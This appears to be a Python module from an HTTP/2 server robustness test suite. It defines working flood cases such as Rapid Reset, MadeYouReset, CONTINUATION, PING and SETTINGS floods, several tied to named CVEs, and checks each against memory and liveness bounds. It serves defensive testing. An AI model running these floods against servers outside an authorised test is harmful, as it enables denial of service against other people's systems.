"""More frames than any honest client sends. Where an HTTP/2 server may well cope (10.5 of RFC 9113 leaves it to the
server when to call for calm), LIVES is among the ends, and the bounds on memory and on the probe are what counts."""

from suite import ANY_END, LIVES, attack, batched, f, repeated
from h2peer.dialects import bytes_field, message


def finished(peer, within=5.0, stream=None):
    with peer:
        return peer.ending(within, probe_stream=stream)


@attack(ends=ANY_END, within=3, memory_mib=32)
def rapid_reset(target):
    """10,000 requests, each reset at once (CVE-2023-44487)."""
    peer = target.connect()
    block = peer.block()  # the first use fills the dynamic table
    peer.send(f.headers(1, block), f.rst_stream(1))
    block = peer.block()
    peer.flood(batched(f.headers(stream, block).encode() + f.rst_stream(stream).encode()
                       for stream in range(3, 20_003, 2)))
    return finished(peer, 3, 30_001)


@attack(ends=ANY_END + (LIVES,), memory_mib=32)
def made_you_reset(target):
    """5,000 streams on which the client makes the server reset: WINDOW_UPDATE over 2^31-1 (CVE-2025-8671)."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block()), f.rst_stream(1))
    block = peer.block()
    for first in range(3, 10_003, 100):
        # Fifty at a time, so that MAX_CONCURRENT_STREAMS is kept and only the resets are many.
        peer.flood([b"".join(f.headers(stream, block).encode() + f.window_update(stream, f.MAX_WINDOW).encode()
                             for stream in range(first, first + 100, 2))])
        reset = peer.wait_for(lambda frame: frame.type == f.RST_STREAM and frame.stream == first + 98, 2)
        if reset is None:
            break
    return finished(peer, stream=30_001)


@attack(ends=(LIVES,), memory_mib=32)
def cancelled_calls(target):
    """Five times a hundred calls, opened and then cancelled: that is lawful, and no stream may be left over."""
    peer = target.connect()
    stream = 1
    for _ in range(5):
        mine = range(stream, stream + 200, 2)
        for one in mine:
            peer.send(f.headers(one, peer.block()), log=False)
        for one in mine:
            peer.send(f.rst_stream(one), log=False)
        peer.drain(0.05)
        stream += 200
    return finished(peer, stream=stream)


@attack(ends=ANY_END, within=3, memory_mib=16)
def continuation_flood(target):
    """HEADERS without END_HEADERS and 100,000 CONTINUATION frames with a field each (CVE-2024-28182)."""
    peer = target.connect()
    field = b"\x00\x03x-a" + b"\x40" + b"v" * 64
    peer.send(f.headers(1, peer.block(), end_headers=False))
    peer.flood(repeated(f.continuation(1, field, end_headers=False).encode(), 100_000))
    return finished(peer, 3)


@attack(ends=ANY_END, within=3, memory_mib=16)
def empty_continuation_flood(target):
    """HEADERS without END_HEADERS and 100,000 empty CONTINUATION frames."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block(), end_headers=False))
    peer.flood(repeated(f.continuation(1, b"", end_headers=False).encode(), 100_000))
    return finished(peer, 3)


@attack(ends=ANY_END, within=3, memory_mib=16, static_lives=True)
def ping_flood(target):
    """50,000 PINGs whose answers are read (CVE-2019-9512)."""
    peer = target.connect()
    peer.flood(repeated(f.ping(b"flooding").encode(), 50_000))
    return finished(peer, 3, 1)


@attack(ends=ANY_END, within=8, memory_mib=16)
def ping_flood_unread(target):
    """500,000 PINGs whose answers are not read, so that they pile up in the server."""
    peer = target.connect()
    peer.flood(repeated(f.ping(b"flooding").encode(), 500_000, 1000), read=False, seconds=5)
    return finished(peer, 8)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def settings_flood(target):
    """20,000 SETTINGS whose acknowledgements are read (CVE-2019-9515)."""
    peer = target.connect()
    peer.flood(repeated(f.settings((f.INITIAL_WINDOW_SIZE, 65535)).encode(), 20_000))
    return finished(peer, stream=1)


@attack(ends=ANY_END, within=8, memory_mib=16)
def settings_flood_unread(target):
    """500,000 SETTINGS whose acknowledgements are not read."""
    peer = target.connect()
    peer.flood(repeated(f.settings().encode(), 500_000, 1000), read=False, seconds=5)
    return finished(peer, 8)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def large_settings(target):
    """200 SETTINGS of 2,700 entries each (CVE-2020-11080)."""
    peer = target.connect()
    peer.flood(repeated(f.settings(*[(0xF000, 1)] * 2700).encode(), 200, 10))
    return finished(peer, stream=1)


@attack(ends=ANY_END + (LIVES,), memory_mib=32)
def window_settings_with_open_streams(target):
    """A hundred open streams and 5,000 changes of INITIAL_WINDOW_SIZE, each of which touches every stream."""
    peer = target.connect()
    for stream in range(1, 200, 2):
        peer.send(f.headers(stream, peer.block()), log=False)
    peer.flood(repeated(f.settings((f.INITIAL_WINDOW_SIZE, 1)).encode()
                        + f.settings((f.INITIAL_WINDOW_SIZE, 65535)).encode(), 2500))
    peer.send(*[f.rst_stream(stream) for stream in range(1, 200, 2)], log=False)
    return finished(peer, stream=301)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def empty_data_flood(target):
    """100,000 empty DATA frames without END_STREAM (CVE-2019-9518)."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block()))
    peer.flood(repeated(f.data(1).encode(), 100_000))
    return finished(peer, stream=3)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def window_update_flood(target):
    """100,000 WINDOW_UPDATEs of one byte, on the connection and on a stream."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block()))
    peer.flood(repeated(f.window_update(0, 1).encode() + f.window_update(1, 1).encode(), 50_000))
    return finished(peer, stream=3)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def priority_flood(target):
    """100,000 PRIORITY frames, each for a stream that does not exist yet."""
    peer = target.connect()
    peer.flood(batched(f.priority(stream, max(0, stream - 2)).encode() for stream in range(3, 200_003, 2)))
    return finished(peer, stream=200_005)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def priority_loops(target):
    """A tree of a hundred open streams turned round 50,000 times by exclusive dependencies (CVE-2019-9513)."""
    peer = target.connect()
    for stream in range(1, 200, 2):
        peer.send(f.headers(stream, peer.block()), log=False)
    chunk = b"".join(f.priority(stream, (stream + 98) % 200 | 1, True, 255).encode()
                     for stream in range(1, 200, 2) if stream != (stream + 98) % 200 | 1)
    peer.flood(repeated(chunk, 500, 1))
    peer.send(*[f.rst_stream(stream) for stream in range(1, 200, 2)], log=False)
    return finished(peer, stream=301)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def self_dependency(target):
    """A stream that depends on itself (RFC 7540 5.3.1); RFC 9113 lets a server ignore it, nghttp2 does not."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block()), f.priority(1, 1))
    return finished(peer, stream=3)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def unknown_frame_flood(target):
    """100,000 small frames of an unknown type and 2,000 of 16 KiB."""
    peer = target.connect()
    peer.flood(repeated(f.Frame(0xEE, 0, 0, b"x").encode(), 100_000))
    peer.flood(repeated(f.Frame(0xEE, 0, 0, bytes(16384)).encode(), 2_000, 1))
    return finished(peer, stream=1)


@attack(ends=ANY_END + (LIVES,), memory_mib=32)
def refused_stream_flood(target):
    """10,000 open streams, whatever MAX_CONCURRENT_STREAMS says."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block()))
    block = peer.block()
    peer.flood(batched(f.headers(stream, block).encode() for stream in range(3, 20_003, 2)))
    if not peer.closed and not peer.goaway:
        peer.send(*[f.rst_stream(stream) for stream in range(1, 20_003, 2)], log=False)
    return finished(peer, stream=30_001)


@attack(ends=ANY_END + (LIVES,), memory_mib=16)
def data_after_reset(target):
    """A stream is reset and a MiB of DATA follows on it: the connection ends, or its window is given back."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block()), f.rst_stream(1))
    sent = 0
    while sent < 1 << 20 and not peer.closed and peer.goaway is None:
        if peer.connection_window < 16384:
            frame = peer.next(1)
            if frame is None:
                return f"hangs: the window of the connection is used up after {sent} bytes"
            continue
        peer.send(f.data(1, bytes(16384)), log=False)
        peer.connection_window -= 16384
        sent += 16384
    return finished(peer, stream=3)


@attack(ends=ANY_END + (LIVES,), memory_mib=32)
def beyond_the_window(target):
    """32 MiB of DATA regardless of the windows: whole messages of 16 KB on a client stream, no answer being read. A
    server that is quick to give window back may take them all; it may not keep them."""
    peer = target.connect()
    peer.send(f.headers(1, peer.block(method="StreamingInputCall") if peer.dialect.name == "grpc" else peer.block()))
    body = message(bytes_field(1, bytes_field(2, bytes(16000))))
    peer.flood(repeated(f.data(1, body).encode(), 2_000, 1), read=False, seconds=5)
    return finished(peer, stream=3)


@attack(ends=(LIVES,), memory_mib=64)
def many_connections(target):
    """Two hundred connections that shake hands and stay."""
    peers = [target.connect() for _ in range(200)]
    try:
        return peers[0].ending(0.1, probe_stream=1)
    finally:
        for peer in peers:
            peer.close()
